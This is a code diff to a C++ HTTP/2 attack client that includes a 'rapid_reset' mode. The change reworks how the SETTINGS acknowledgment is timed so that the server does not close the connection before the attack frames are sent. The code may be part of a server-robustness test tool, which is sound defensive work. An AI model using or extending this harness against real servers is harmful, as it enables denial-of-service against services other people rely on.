@@ -181,7 +181,6 @@ class Connection {
   void read_loop() {
     std::string buf;
     char chunk[65536];
-    bool acked = false;
     while (!stop_ && !closed()) {
       const ssize_t n = ::recv(fd_, chunk, sizeof chunk, 0);
       if (n == 0 || (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK && errno != EINTR)) {
@@ -196,12 +195,7 @@ class Connection {
         if (buf.size() < 9 + len) break;
         if (b(3) == kGoaway && len >= 8)
           goaway_ = (long{b(13)} << 24) | (long{b(14)} << 16) | (long{b(15)} << 8) | b(16);
-        if (b(3) == kSettings && (b(4) & kAck) == 0 && !acked && preface_sent_) {
-          acked = true;
-          const std::string ack = frame(kSettings, kAck, 0, "");
-          (void)::send(fd_, ack.data(), ack.size(), MSG_NOSIGNAL);
-          acked_ = true;
-        }
+        if (b(3) == kSettings && (b(4) & kAck) == 0) settings_seen_ = true;
         buf.erase(0, 9 + len);
       }
     }
@@ -214,15 +208,16 @@ class Connection {
   std::atomic<long> closed_ms_{-1};
   std::atomic<long> goaway_{-1};
   std::atomic<bool> acked_{false};
+  std::atomic<bool> settings_seen_{false};
 
  public:
-  // The reader ACKs the server's SETTINGS only after our preface (an ACK in the middle of the
-  // preface would break it) and waits_for_settled() before attack frames (an ACK in the middle of
-  // a header block is a protocol error: the server would close us for the wrong reason).
-  std::atomic<bool> preface_sent_{false};
+  // After our preface: waits for the server's SETTINGS and ACKs them, from the sending thread
+  // (an ACK in the middle of the preface would break it, one in the middle of a header block is
+  // a protocol error: the server would close us for the wrong reason).
   void wait_for_settled(Clock::time_point until) {
-    while (!settled() && !closed() && Clock::now() < until)
+    while (!settings_seen_ && !closed() && Clock::now() < until)
       std::this_thread::sleep_for(std::chrono::milliseconds(1));
+    if (settings_seen_ && send(frame(kSettings, kAck, 0, ""), until)) acked_ = true;
   }
 };
 
@@ -273,7 +268,6 @@ void wait_closed(const Connections& cs, Clock::time_point until) {
 long attack_once(const Options& o, Connection& c, Clock::time_point until) {
   const std::string& a = o.attack;
   c.send(kPreface + frame(kSettings, 0, 0, ""), until);
-  c.preface_sent_ = true;
   c.wait_for_settled(until);
   if (a == "rapid_reset") {
     const std::string block = request_block();
